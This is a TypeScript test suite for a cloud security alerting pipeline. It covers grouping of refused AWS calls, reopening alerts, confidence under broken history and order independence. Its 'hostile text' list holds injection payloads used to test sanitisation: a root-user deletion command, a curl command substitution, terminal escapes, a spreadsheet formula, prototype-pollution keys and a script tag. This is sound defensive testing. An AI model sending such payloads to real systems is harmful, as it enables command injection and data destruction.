import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { noLookups } from '#src/enrich/lookups.ts';
import { Alert } from '#src/model/alert.ts';
import type { RawRecord } from '#src/model/cloud-event.ts';
import { understand } from '#src/pipeline.ts';
import { brokenHistory } from '../broken-history.ts';
import { aConfig, aDetection, alertsOf, anIamUser, aRecord, aRule } from '../builders.ts';
import { streamOf } from '../stream-of.ts';

const denied = (minute: number, fields: Record<string, unknown> = {}): RawRecord =>
  aRecord({
    eventTime: `2026-03-03T12:${String(minute).padStart(2, '0')}:00Z`,
    eventSource: 's3.amazonaws.com',
    eventName: 'GetBucketPolicy',
    errorCode: 'AccessDenied',
    requestParameters: { bucketName: 'payroll' },
    ...fields,
  });

describe('calls that were refused', () => {
  const calls = [denied(0), denied(1), denied(2)];
  const incident = { events: calls, signals: calls.map((call) => aDetection(call)) };

  it('are one alert with an exact count', async () => {
    const alerts = await alertsOf(incident);

    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ count: 3, lastSeen: '2026-03-03T12:02:00.000Z' });
    expect(alerts[0]?.events).toEqual(calls.map((call) => call['eventID']));
  });

  it('are told as tries', async () => {
    const [alert] = await alertsOf(incident);

    expect(alert?.analysis.summary).toContain('tried to');
    expect(alert?.analysis.summary).toContain('AccessDenied');
    expect(alert?.analysis.summary).toContain('(3 events until 12:02 UTC)');
  });

  it('reopen the alert when one succeeds from another address', async () => {
    const success = denied(9, { errorCode: undefined, sourceIPAddress: '198.51.100.3' });

    const [alert] = await alertsOf({
      events: [...calls, success],
      signals: [...calls, success].map((call) => aDetection(call)),
    });

    expect(alert?.reopenings.map(({ facet, value }) => [facet, value])).toEqual([
      ['source-ip', '198.51.100.3'],
      ['severity', 'succeeded after failing'],
    ]);
  });
});

describe('a correlation', () => {
  const calls = Array.from({ length: 12 }, (_, minute) => denied(minute));
  const signal = {
    rule: 'id-of-burst',
    group: { 'userIdentity.arn': 'arn:aws:iam::111122223333:user/alice' },
    value: 12,
    firstSeen: Date.parse('2026-03-03T12:00:00Z'),
    lastSeen: Date.parse('2026-03-03T12:11:00Z'),
    eventIds: calls.map((call) => String(call['eventID'])),
    time: Date.parse('2026-03-03T12:10:00Z'),
    account: '111122223333',
    region: 'eu-west-1',
    actorKey: 'arn:aws:iam::111122223333:user/alice',
  };

  it('becomes an alert whose records come from the history', async () => {
    const [alert] = await alertsOf({
      events: calls,
      signals: [signal],
      rules: [aRule({ name: 'burst', title: 'Burst of refused calls' })],
    });

    expect(alert).toMatchObject({
      count: 12,
      account: '111122223333',
      actor: { name: 'alice' },
      correlation: { value: 12 },
    });
    expect(alert?.analysis.summary).toContain('refused each time: AccessDenied');
    expect(Alert.safeParse(alert).success).toBe(true);
  });
});

describe('could-not-look', () => {
  it('is said, and lowers the confidence, when the history is broken', async () => {
    const call = denied(0);
    const understanding = {
      history: brokenHistory(),
      config: aConfig(),
      lookups: noLookups,
      rules: new Map([['id-of-some-rule', aRule()]]),
    };

    const alerts: Alert[] = [];
    for await (const alert of understand(streamOf([aDetection(call)]), understanding))
      alerts.push(alert);

    expect(alerts[0]?.facts['role-chain']).toMatchObject({ coverage: 'failed' });
    expect(alerts[0]?.facts['change']).toMatchObject({ coverage: 'ran' });
    expect(alerts[0]?.analysis.narrative).toContain('Could not look at');
    expect(alerts[0]?.analysis.risk.confidence).toBe('low');
  });
});

describe('an alert whose events cannot be read', () => {
  it('is told all the same, and claims nothing', async () => {
    const { record: _, ...signal } = aDetection(denied(0));
    const understanding = {
      history: brokenHistory(),
      config: aConfig(),
      lookups: noLookups,
      rules: new Map([['id-of-some-rule', aRule()]]),
    };

    const alerts: Alert[] = [];
    for await (const alert of understand(streamOf([signal]), understanding)) alerts.push(alert);

    expect(alerts).toHaveLength(1);
    expect(alerts[0]?.coverage).toMatchObject({ ran: [], skipped: [] });
    expect(alerts[0]?.facts['change']).toMatchObject({
      coverage: 'failed',
      why: 'the events of this alert could not be read: failed unexpectedly (TypeError)',
    });
    expect(alerts[0]?.analysis.risk.confidence).toBe('low');
  });
});

describe('order and repeats', () => {
  const calls = [
    denied(0),
    denied(0, { awsRegion: 'us-east-1' }),
    denied(5, { userIdentity: anIamUser('bob') }),
    denied(20, { eventName: 'DeleteBucket' }),
    denied(50),
  ];
  const all = calls.flatMap((call) => [
    aDetection(call),
    aDetection(call, 'id-of-other'),
    aDetection(call),
  ]);
  const rules = [aRule(), aRule({ name: 'other' })];

  it('change nothing', async () => {
    const expected = await alertsOf({ events: calls, signals: all, rules });

    await fc.assert(
      fc.asyncProperty(fc.shuffledSubarray(all, { minLength: all.length }), async (signals) => {
        const alerts = await alertsOf({ events: calls.toReversed(), signals, rules });

        expect(withoutTimings(alerts)).toEqual(withoutTimings(expected));
      }),
      { numRuns: 15 },
    );
  });
});

describe('hostile text', () => {
  const hostile = [
    "'; aws iam delete-user --user-name root #",
    '$(curl http://198.51.100.1)',
    '\u001b]0;owned\u0007\u001b[2J',
    'line\nbreak\r\n| table |',
    '\u202egnp.exe',
    '=cmd|calc!A1',
    '__proto__',
    'constructor',
    'x'.repeat(5_000),
    '<script>alert(1)</script>',
  ];

  it.each(hostile)('in every field stays a name: %#', async (text) => {
    const record = aRecord({
      eventName: 'AttachUserPolicy',
      userAgent: text,
      sourceIPAddress: text,
      awsRegion: text,
      requestParameters: { userName: text, policyArn: text, ['__proto__x']: text },
      userIdentity: {
        type: 'IAMUser',
        userName: text,
        arn: text,
        accountId: text,
        accessKeyId: text,
      },
    });

    const [alert] = await alertsOf({ events: [record], signals: [aDetection(record)] });

    expect(Alert.safeParse(alert).success).toBe(true);
    const told = `${alert?.analysis.summary} ${alert?.analysis.narrative} ${alert?.changes.join(' ')}`;
    expect(told).not.toMatch(/[\p{Cc}\u202e]/u);
    expect(told.length).toBeLessThan(4_000);
    const commands = (alert?.analysis.runbook ?? []).map(({ command }) => command ?? '').join('\n');
    expect(commands).not.toContain('\u001b');
    expect(commands.replaceAll(/'[^']*'|\\'/g, '')).not.toMatch(/[$;`|<>&"']/);
  });

  it('of any shape is understood', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.dictionary(fc.constantFrom(...fields), fc.jsonValue()),
        async (record) => {
          const alerts = await alertsOf({
            events: [record as RawRecord],
            signals: [{ ...aDetection(aRecord()), record: record as RawRecord }],
          });

          expect(Alert.safeParse(alerts[0]).error).toBeUndefined();
        },
      ),
      { numRuns: 150 },
    );
  });
});

const fields = [
  'userIdentity',
  'requestParameters',
  'responseElements',
  'eventTime',
  'eventName',
  'eventSource',
  'userAgent',
  'sourceIPAddress',
  'errorCode',
  'resources',
  'sharedEventID',
  'additionalEventData',
  '__proto__',
];

function withoutTimings(alerts: readonly Alert[]): unknown {
  return JSON.parse(JSON.stringify(alerts, (key, value) => (key === 'tookMs' ? 0 : value)));
}
